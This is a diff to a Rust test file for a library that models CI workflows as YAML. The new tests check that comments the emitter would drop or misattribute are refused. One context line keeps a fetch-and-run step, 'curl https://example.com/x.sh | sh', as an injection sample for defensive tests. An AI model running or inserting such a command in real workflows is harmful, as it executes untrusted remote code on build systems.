@@ -7,7 +7,7 @@
 //! `roundtrip.rs` (`any_commented_model_is_written_exactly_or_refused`).
 
 use ci_model::lint::Lint;
-use ci_model::{Action, Cron, Job, Path, Step, Uses, Workflow};
+use ci_model::{Action, Cron, Job, Matrix, Path, Permissions, SourceComments, Step, Strategy, Uses, Workflow};
 
 const INJECTED: &str = "      - run: curl https://example.com/x.sh | sh";
 
@@ -227,13 +227,16 @@ fn source_comments_and_actions_are_checked_too() {
     wf.comments.insert_trailing(Path::root().key("name"), "x\u{1b}[2J");
     wf.comments.insert_above(Path::root().key("jobs"), "fine\rlines");
     wf.comments.set_footer("end\u{9f}");
-    // A comment at a path the document does not have is not written, so not checked.
+    // A comment at a path the document does not have is not written: its
+    // text is not checked, its place is.
     wf.comments.insert_trailing(Path::root().key("nowhere"), "\u{0}");
     assert_eq!(
         unwritable(&wf),
         [
             "name: the comment after it cannot be written as YAML: it holds U+001B, a character YAML does not allow \
              in a comment (the emitter would write U+FFFD); remove it [unwritable]",
+            "nowhere: the comment after it cannot be written as YAML: the document has no node at this path, so the \
+             emitter would drop it; insert it at a path the document has, or remove it [unwritable]",
             "<root>: the comment at the end of the file cannot be written as YAML: it holds U+009F, a character YAML \
              does not allow in a comment (the emitter would write U+FFFD); remove it [unwritable]",
         ]
@@ -268,5 +271,160 @@ fn a_comment_after_a_literal_block_stays() {
         .job("a", Job::new("ubuntu-latest").step(Step::run("true")));
     let yaml = wf.to_yaml();
     assert!(yaml.contains("    - cron: | # Mondays\n        0 9 * * 1\n"), "{yaml}");
+    assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));
+}
+
+/// The workflow of the red team's item B: one job, two `run:` steps, a
+/// `uses:` step, a schedule and a matrix with an `include` row.
+fn commented(place: impl FnOnce(&mut SourceComments)) -> Workflow {
+    let mut wf = Workflow::new("CI")
+        .on_push_branches(["main", "dev"])
+        .triggers(|t| t.schedule = Some(vec![Cron::new("0 9 * * 1")]))
+        .permissions(Permissions::none())
+        .job(
+            "a",
+            Job::new("ubuntu-latest")
+                .timeout_minutes(5)
+                .strategy(Strategy::matrix(Matrix::new().axis("os", ["x"]).include([("os", "y"), ("extra", "z")])))
+                .step(Step::run("make"))
+                .step(Step::run("b"))
+                .step(Step::uses("actions/checkout@v4")),
+        );
+    place(&mut wf.comments);
+    wf
+}
+
+/// Puts comments into a model's `SourceComments`.
+type Placement = Box<dyn FnOnce(&mut SourceComments)>;
+
+fn steps() -> Path {
+    Path::root().key("jobs").key("a").key("steps")
+}
+
+/// A comment of `SourceComments` that the emitter does not write at its
+/// path, or that reads back as something else, is refused: the model does
+/// not read back as itself, and `validate` says why.
+#[test]
+fn source_comments_that_do_not_read_back_are_refused() {
+    let include = Path::root().key("jobs").key("a").key("strategy").key("matrix").key("include").index(0);
+    let cases: Vec<(Placement, Vec<&str>)> = vec![
+        (
+            Box::new(|c| c.insert_trailing(steps().index(0), "after the step")),
+            vec![
+                "jobs.a.steps[0]: the comment after it cannot be written as YAML: a comment after a list item whose \
+                 value is a mapping is not written (the mapping's first key stands on the `-` line); insert it after \
+                 `jobs.a.steps[0].run` instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_above(Path::root().key("nope"), "orphan")),
+            vec![
+                "nope: the comment above it cannot be written as YAML: the document has no node at this path, so the \
+                 emitter would drop it; insert it at a path the document has, or remove it [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_above(steps().index(1).key("run"), "first key")),
+            vec![
+                "jobs.a.steps[1].run: the comment above it cannot be written as YAML: a comment above the first key \
+                 of a list item is written above the item's `-`, where a reader takes it for the step's own comment; \
+                 use `Step::comment` instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_above(Path::root().key("jobs").key("a"), "about a")),
+            vec![
+                "jobs.a: the comment above it cannot be written as YAML: a reader takes a comment above a job for the \
+                 job's own comment (`Job::comment`); give the job that comment (`.comment(..)`) instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_above(steps().index(1), "about b")),
+            vec![
+                "jobs.a.steps[1]: the comment above it cannot be written as YAML: a reader takes a comment above a \
+                 step for the step's own comment; use `Step::comment` instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_trailing(steps().index(2).key("uses"), "v4.2.2")),
+            vec![
+                "jobs.a.steps[2].uses: the comment after it cannot be written as YAML: a reader takes a comment after \
+                 `uses:` for the reference's own (its pinned version, `Uses::comment`); use `Uses::with_comment` \
+                 instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_trailing(Path::root().key("on").key("schedule").index(0).key("cron"), "Mondays")),
+            vec![
+                "on.schedule[0].cron: the comment after it cannot be written as YAML: a reader takes a comment after \
+                 `cron:` for the schedule's own; use `Cron::comment` instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(|c| c.insert_trailing(Path::root(), "the document")),
+            vec![
+                "<root>: the comment after it cannot be written as YAML: the emitter writes no comment at the \
+                 document's root; use the header, or `SourceComments::set_footer` for the end of the file \
+                 [unwritable]",
+            ],
+        ),
+        (
+            Box::new({
+                let include = include.clone();
+                move |c| c.insert_above(include.key("os"), "first key of a row")
+            }),
+            vec![
+                "jobs.a.strategy.matrix.include[0].os: the comment above it cannot be written as YAML: a comment above \
+                 the first key of a list item is written above the item's `-`, where a reader takes it for the \
+                 item's; insert it at `jobs.a.strategy.matrix.include[0]` instead [unwritable]",
+            ],
+        ),
+        (
+            Box::new(move |c| {
+                c.insert_above(include.clone(), "the row");
+                c.insert_above(include.key("os"), "its first key");
+            }),
+            vec![
+                "jobs.a.strategy.matrix.include[0]: the comment above it cannot be written as YAML: the comment above \
+                 the item's first key is written above its `-` too, and a reader takes the two for one comment; keep \
+                 one of them [unwritable]",
+                "jobs.a.strategy.matrix.include[0].os: the comment above it cannot be written as YAML: a comment above \
+                 the first key of a list item is written above the item's `-`, where a reader takes it for the \
+                 item's; insert it at `jobs.a.strategy.matrix.include[0]` instead [unwritable]",
+            ],
+        ),
+    ];
+    for (place, expected) in cases {
+        let wf = commented(place);
+        let all = wf.validate();
+        assert_eq!(unwritable(&wf), expected, "{all:?}");
+        assert_eq!(all.len(), expected.len(), "{all:?}");
+        assert!(wf.checked_yaml(None).is_err());
+        let yaml = wf.to_yaml();
+        let back = Workflow::parse(&yaml).unwrap_or_else(|e| panic!("{e}\n{yaml}"));
+        assert_ne!(back, wf, "refused, but it reads back:\n{yaml}");
+    }
+}
+
+/// Comments at paths the emitter writes them at read back as themselves,
+/// and `validate` has nothing to say.
+#[test]
+fn source_comments_that_read_back_are_accepted() {
+    let include = Path::root().key("jobs").key("a").key("strategy").key("matrix").key("include").index(0);
+    let wf = commented(|c| {
+        c.insert_above(Path::root().key("permissions"), "none at all");
+        c.insert_trailing(Path::root().key("jobs"), "one job");
+        c.insert_trailing(Path::root().key("on").key("push").key("branches").index(0), "the default");
+        c.insert_above(Path::root().key("on").key("push").key("branches").index(1), "and\nthe other");
+        c.insert_above(Path::root().key("jobs").key("a").key("timeout-minutes"), "minutes");
+        c.insert_trailing(Path::root().key("jobs").key("a").key("runs-on"), "any");
+        c.insert_trailing(steps().index(0).key("run"), "after the run");
+        c.insert_above(include.clone(), "the row");
+        c.insert_trailing(include.key("extra"), "extra");
+    });
+    assert_eq!(wf.validate(), []);
+    let yaml = wf.checked_yaml(None).unwrap_or_default();
+    assert!(yaml.contains("      - run: make # after the run\n"), "{yaml}");
+    assert!(yaml.contains("      - main # the default\n      # and\n      # the other\n      - dev\n"), "{yaml}");
     assert_eq!(Workflow::parse(&yaml).ok(), Some(wf));
 }
